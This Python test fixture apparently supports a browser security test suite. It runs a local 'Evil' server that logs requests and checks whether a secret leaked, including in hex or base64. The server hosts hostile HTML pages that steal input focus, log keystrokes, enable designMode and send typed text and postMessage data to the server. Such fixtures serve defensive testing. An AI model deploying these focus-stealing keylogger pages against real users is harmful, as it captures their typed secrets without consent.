"""A second site that writes down whatever reaches it, and pages there that want the focus."""

from __future__ import annotations

import asyncio
import base64
import contextlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from urllib.parse import unquote_plus

FRAME = """<!doctype html><input id=i autofocus><p id=e contenteditable>x</p><script>
const tell = (what) => fetch("/got", {method: "POST", body: what});
setInterval(() => i.focus(), 5);
i.oninput = () => tell("frame " + i.value);
addEventListener("keydown", (e) => tell("key " + e.key));
addEventListener("message", (e) => tell("message " + JSON.stringify(e.data)));
</script>"""
EDITABLE = """<!doctype html><body><script>document.designMode = "on";
setInterval(() => { window.focus(); document.body.focus(); }, 5);
new MutationObserver(() => fetch("/got", {method: "POST", body: document.body.innerText}))
  .observe(document, {subtree: true, childList: true, characterData: true});</script>"""
SLOW = FRAME.replace("i.focus(), 5", "i.focus(), 90")
CALM = "<!doctype html><p>An advertisement</p><input aria-label=Search>"
EARS = """<!doctype html><script>
addEventListener("message", (e) => { new Image().src = "/got?" + encodeURIComponent(e.data); });</script>"""
PAGES = {"/thief": FRAME, "/slow": SLOW, "/edit": EDITABLE, "/calm": CALM, "/ears": EARS}


@dataclass
class Evil:
    """What reached it, request by request: first line, headers and body."""

    port: int = 0
    got: list[bytes] = field(default_factory=list)
    busy: set[asyncio.Task[None]] = field(default_factory=set)

    @property
    def near(self) -> str:
        """Another origin of the same site: its frames live in the page's own process."""
        return f"http://127.0.0.1:{self.port}"

    @property
    def far(self) -> str:
        """Another site: its frames live in a process of their own."""
        return f"http://localhost:{self.port}"

    def has(self, secret: str) -> bool:
        """Whether a secret reached it, as it is or in a usual encoding."""
        raw = b"\n".join(self.got)
        texts = [raw.decode("utf-8", "replace"), unquote_plus(raw.decode("latin-1"))]
        forms = [secret, secret.encode().hex(), base64.b64encode(secret.encode()).decode().rstrip("=")]
        return any(form in text for form in forms for text in texts)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer one request, and keep it."""
        task = asyncio.current_task()
        self.busy.add(task)
        try:
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                head = await reader.readuntil(b"\r\n\r\n")
                low = head.lower()
                length = int(low.partition(b"content-length: ")[2].partition(b"\r")[0] or 0)
                self.got.append(head + await reader.readexactly(length))
                path = head.split(b" ")[1].decode().partition("?")[0]
                body = PAGES.get(path, "got it").encode()
                kind = "text/html" if path in PAGES else "text/plain"
                lines = f"content-type: {kind}\r\naccess-control-allow-origin: *\r\ncontent-length: {len(body)}\r\n"
                more = "access-control-allow-headers: *\r\nconnection: close\r\n\r\n"
                writer.write(f"HTTP/1.1 200 x\r\n{lines}{more}".encode() + body)
                await writer.drain()
        except asyncio.CancelledError:
            writer.transport.abort()
        finally:
            self.busy.discard(task)
            writer.close()


@contextlib.asynccontextmanager
async def listening() -> AsyncIterator[Evil]:
    """The second site, for as long as this lasts."""
    evil = Evil()
    server = await asyncio.start_server(evil.serve, "127.0.0.1", 0)
    evil.port = server.sockets[0].getsockname()[1]
    try:
        yield evil
    finally:
        server.close()
        for task in evil.busy:
            task.cancel()
        await asyncio.gather(*evil.busy, return_exceptions=True)
        await asyncio.sleep(0)
